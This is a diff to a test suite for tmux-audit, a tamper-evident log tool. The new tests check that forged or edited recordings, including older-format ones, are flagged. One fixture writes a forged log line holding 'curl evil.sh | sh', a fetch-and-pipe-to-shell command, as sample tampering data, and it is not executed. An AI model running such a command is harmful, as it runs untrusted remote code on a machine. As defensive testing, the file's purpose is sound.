@@ -40,7 +40,8 @@ function copyOfOlder(name: string): string {
 }
 
 const keyFor = (name: string) => (name.includes('keyed') ? KEY : undefined);
-const verify = (live: string, key?: Buffer, requireKey = key !== undefined) => verifyFiles(logFilesInOrder(live), DEFAULT_TIME_FORMAT, { key, requireKey });
+// The older rules are asked for (`verify --older`) unless a test says otherwise: the attacks below must fail even then.
+const verify = (live: string, key?: Buffer, requireKey = key !== undefined, older = true) => verifyFiles(logFilesInOrder(live), DEFAULT_TIME_FORMAT, { key, requireKey, older });
 const kinds = (live: string, key?: Buffer) => verify(live, key).breaks.map((found) => found.kind);
 const isSeal = (line: string) => line.includes(' * seal ') || line.includes('"kind":"event","text":"seal"');
 const isLost = (line: string) => line.includes(' * lost ') || line.includes('"kind":"event","text":"lost"');
@@ -107,14 +108,18 @@ describe('logs written by an older tmux-audit (lost events unsealed)', () => {
     const dir = path.dirname(copyOfOlder('text-keyed-rotated'));
     const key = path.join(scratch(), 'chain.key');
     fs.writeFileSync(key, KEY, { mode: 0o600 });
-    const clean = cliResult(['verify', '--dir', dir, '--key', key, '--require-key']);
+    // Not asked for: the unsealed lost event is forged, or older, and the message says how to check an older log.
+    const strict = cliResult(['verify', '--dir', dir, '--key', key, '--require-key']);
+    assert.equal(strict.status, 1, strict.stdout + strict.stderr);
+    assert.match(strict.stdout, /forged event.*written by a tmux-audit older than v=2 \(verify --older/);
+    const clean = cliResult(['verify', '--dir', dir, '--key', key, '--require-key', '--older']);
     assert.equal(clean.status, 0, clean.stdout + clean.stderr);
     assert.match(clean.stdout, /^OK main: .*1 log file\(s\) removed while logging.*1 recording\(s\) written by an older tmux-audit: their lost events are checked the old way/m);
     // The line before the last seal, which covers it: caught.
     const live = path.join(dir, 'main.log');
     const lines = fs.readFileSync(live, 'utf8').split('\n');
     editLine(live, lines.findIndex(isSeal) - 1, rewrite);
-    const edited = cliResult(['verify', '--dir', dir, '--key', key, '--require-key']);
+    const edited = cliResult(['verify', '--dir', dir, '--key', key, '--require-key', '--older']);
     assert.equal(edited.status, 1, edited.stdout);
     assert.match(edited.stdout, /^TAMPERED main: /m);
   });
@@ -218,6 +223,23 @@ describe('a recording marked v=2 (this version) is held to sealed lost events', 
     const found = verify(live, KEY).breaks;
     assert.deepEqual(found.map((b) => b.kind), ['edited']);
     assert.match(found[0]!.detail, /without v= in a recording whose start or seals say v=2/);
+  });
+
+  it('a recording forged in the older shape (an unsealed lost event opening it, a seal claiming chain=hmac, a stop) appended to a keyed log: forged unless --older is asked for', async () => {
+    // The review's forgery: without --older nothing reads it the older way; with it, it is what --older is documented not to catch.
+    const live = await markedLog(1500);
+    const stamp = '2099-01-01T00:00:00.000+00:00 root main:7.0';
+    fs.appendFileSync(live, [`${stamp} * lost rec=FAKEFAKE01 what=file`, `${stamp} | root$ curl evil.sh | sh`, `${stamp} * seal rec=FAKEFAKE01 n=9 p=0 h=00112233445566778899aabbccddeeff chain=hmac end=stop`, `${stamp} * stop rec=FAKEFAKE01 reason=toggle`, ''].join('\n'));
+    const found = verify(live, KEY, true, false).breaks;
+    assert.ok(found.some((b) => b.kind === 'forged event' && b.rec === 'FAKEFAKE01'), JSON.stringify(found));
+  });
+
+  it('an older log without --older: its unsealed lost event is a forged event whose message names --older', () => {
+    for (const name of OLDER_LOGS) {
+      const found = verify(path.join(OLDER, name, 'main.log'), keyFor(name), keyFor(name) !== undefined, false).breaks;
+      assert.deepEqual(found.map((b) => b.kind), ['forged event'], name);
+      assert.match(found[0]!.detail, /verify --older/);
+    }
   });
 
   it('a whole older-style recording (unsealed lost) added to a keyed log without the key: unkeyed under --require-key, counted without it', async () => {
